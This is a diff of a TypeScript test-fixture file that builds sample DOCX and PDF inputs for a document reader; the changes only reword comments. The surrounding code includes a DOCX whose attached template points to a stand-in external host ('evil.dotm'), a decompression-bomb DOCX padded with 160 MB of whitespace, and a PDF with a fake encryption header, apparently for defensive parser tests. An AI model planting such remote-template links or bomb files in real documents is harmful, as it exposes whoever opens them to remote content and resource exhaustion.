@@ -1,4 +1,4 @@
-/** Documents that are read: ordinary ones, and those that want to take the reader down. */
+/** Documents to read: ordinary ones, and malicious ones. */
 import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
 import { Document, Packer, Paragraph, TextRun } from 'docx';
 
@@ -66,12 +66,12 @@ export const linkedDocx = docxWith(`<w:p>${run('正文')}</w:p>`, {
     '<Relationships><Relationship Id="r1" Type="attachedTemplate" Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>',
 });
 
-/** A few hundred kilobytes that become more than anybody reads. */
+/** A few hundred kilobytes that expand beyond the limits. */
 export function bombDocx(): Buffer {
   return docxWith(`<w:p><w:r><w:t>A</w:t></w:r></w:p>${' '.repeat(160 * 1024 * 1024)}`);
 }
 
-/** A PDF with one page for each text; an empty text makes a page with nothing written on it. */
+/** A PDF with one page for each text; an empty text makes a page without text. */
 export function pdfOf(pages: readonly string[], trailer = ''): Buffer {
   const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
   const offsets: number[] = [];
@@ -118,7 +118,7 @@ export function pdfOf(pages: readonly string[], trailer = ''): Buffer {
   return Buffer.concat(parts);
 }
 
-/** Says that a password is needed (standard handler, revision 2) and that nobody knows. */
+/** Declares that a password is needed (standard handler, revision 2), which nobody has. */
 export const encryptedPdf = pdfOf(
   ['Secret'],
   `/ID[<${'00'.repeat(16)}><${'00'.repeat(16)}>]/Encrypt<</Filter/Standard/V 1/R 2/P -44/O<${'11'.repeat(32)}>/U<${'22'.repeat(32)}>>>`,
